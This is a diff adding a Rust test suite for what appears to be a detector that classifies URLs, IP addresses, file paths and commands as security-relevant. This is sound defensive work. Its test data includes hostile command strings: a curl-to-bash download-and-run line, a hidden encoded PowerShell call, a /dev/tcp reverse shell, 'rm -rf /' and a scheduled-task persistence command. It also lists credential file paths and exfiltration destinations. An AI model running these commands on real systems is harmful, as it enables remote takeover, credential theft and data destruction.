@@ -1,0 +1,122 @@
+use super::*;
+
+fn has(id: &str, text: &str) -> bool {
+    let classes = Classes::embedded().unwrap();
+    assert!(classes.knows(id), "{id}");
+    classes.has(id, [text])
+}
+
+#[test]
+fn every_pattern_compiles() {
+    Classes::embedded().unwrap().check().unwrap();
+}
+
+#[test]
+fn source_kinds_of_classes_are_in_the_closed_list() {
+    for class in Classes::embedded().unwrap().classes.values() {
+        if let Some(kind) = &class.source {
+            assert!(crate::kinds::is_source(kind), "{kind}");
+        }
+    }
+}
+
+#[test]
+fn hosts_are_told_apart_from_what_contains_their_name() {
+    let class = "destination/webhook-catcher";
+    assert!(has(class, "https://webhook.site/0000"));
+    assert!(has(class, "https://abc.WEBHOOK.site:8443/x?y"));
+    assert!(has(class, "webhook.site"));
+    assert!(!has(class, "https://mywebhook.site/"));
+    assert!(!has(class, "https://example.invalid/?next=https://webhook.site/"));
+    assert!(!has(class, "https://webhook.site.example.invalid/"));
+    assert!(has(class, "https://user:word@webhook.site/"));
+}
+
+#[test]
+fn a_path_behind_a_host_counts() {
+    assert!(has("destination/messenger", "https://api.telegram.org/bot{}/sendMessage"));
+    assert!(has("destination/messenger", "https://discord.com/api/webhooks/0/EXAMPLE"));
+    assert!(!has("destination/messenger", "https://discord.com/channels/0"));
+}
+
+#[test]
+fn addresses_have_ranges() {
+    for (text, class) in [
+        ("http://192.0.2.7:8080/a", "raw-address"),
+        ("198.51.100.3", "raw-address"),
+        ("http://3221225991/x", "raw-address"),
+        ("http://[2001:db8::1]/", "raw-address"),
+        ("http://127.0.0.1:9000", "loopback"),
+        ("localhost", "loopback"),
+        ("0.0.0.0", "loopback"),
+        ("http://10.1.2.3/", "private"),
+        ("192.168.0.1:80", "private"),
+        ("169.254.169.254", "private"),
+    ] {
+        for range in ["raw-address", "loopback", "private"] {
+            assert_eq!(has(&format!("destination/{range}"), text), range == class, "{text} {range}");
+        }
+    }
+    assert!(!has("destination/raw-address", "https://example.invalid/192.0.2.1"));
+    assert!(!has("destination/raw-address", "4444"));
+    assert!(!has("destination/raw-address", "1.2.3"));
+}
+
+#[test]
+fn paths_are_compared_by_component() {
+    assert!(has("file/credential", "/home/{}/.aws/credentials"));
+    assert!(has("file/credential", "C:\\Users\\me\\.ssh\\id_rsa"));
+    assert!(!has("file/credential", "docs/my.aws/credentials.md"));
+    assert!(has("file/executable", "{}/update.exe"));
+    assert!(!has("file/executable", "/usr/share/exe"));
+    assert!(has("file/start-up", "{}\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat"));
+    assert!(has("file/home-or-root", "~"));
+    assert!(has("file/home-or-root", "/"));
+    assert!(has("file/home-or-root", "C:\\"));
+    assert!(!has("file/home-or-root", "/home/me/project/build"));
+}
+
+#[test]
+fn commands_have_classes() {
+    for (class, text, yes) in [
+        ("command/download-and-run", "curl -s http://192.0.2.1/a.sh | bash", true),
+        ("command/download-and-run", "curl -o data.csv https://example.invalid/data.csv", false),
+        ("command/encoded-powershell", "powershell -nop -w hidden -enc QUFBQUFBQUFBQUFBQUFBQQ==", true),
+        ("command/encoded-powershell", "powershell -ExecutionPolicy Bypass -File build.ps1", false),
+        ("command/network-shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", true),
+        ("command/delete-all", "rm -rf /", true),
+        ("command/delete-all", "rm -rf ~/*", true),
+        ("command/delete-all", "rm -rf build dist", false),
+        ("command/delete-all", "rm -rf /tmp/build", false),
+        ("command/compiler", "gcc", true),
+        ("command/compiler", "/usr/bin/cmake --build .", true),
+        ("command/compiler", "gccx", false),
+        ("command/shell", "/bin/sh", true),
+        ("command/shell", "cmd.exe", true),
+        ("command/shell", "git", false),
+        ("command/persistence", "schtasks /create /tn a /tr b /sc onlogon", true),
+    ] {
+        assert_eq!(has(class, text), yes, "{class} {text}");
+    }
+}
+
+#[test]
+fn a_text_has_all_its_classes_sorted() {
+    let classes = Classes::embedded().unwrap();
+    let found = classes.classify("file", ["~/.ssh/id_rsa"]);
+    assert_eq!(found, ["credential"]);
+    assert_eq!(classes.source_kind(["/root/.aws/credentials"]), Some("file.credential"));
+    assert_eq!(classes.source_kind(["notes.txt"]), None);
+}
+
+#[test]
+fn hostile_texts_do_no_harm() {
+    for text in ["", "://", "[", "[::", "@", "a:b:c", "\u{e4}\u{f6}://\u{fc}", "0x", "....", "http://@:80"] {
+        for (id, _) in Classes::embedded().unwrap().list() {
+            // Must return at all, whatever it says.
+            let _ = has(id, text);
+        }
+    }
+    let long = "\u{e4}".repeat(10_000);
+    assert!(!has("file/hidden", &long));
+}
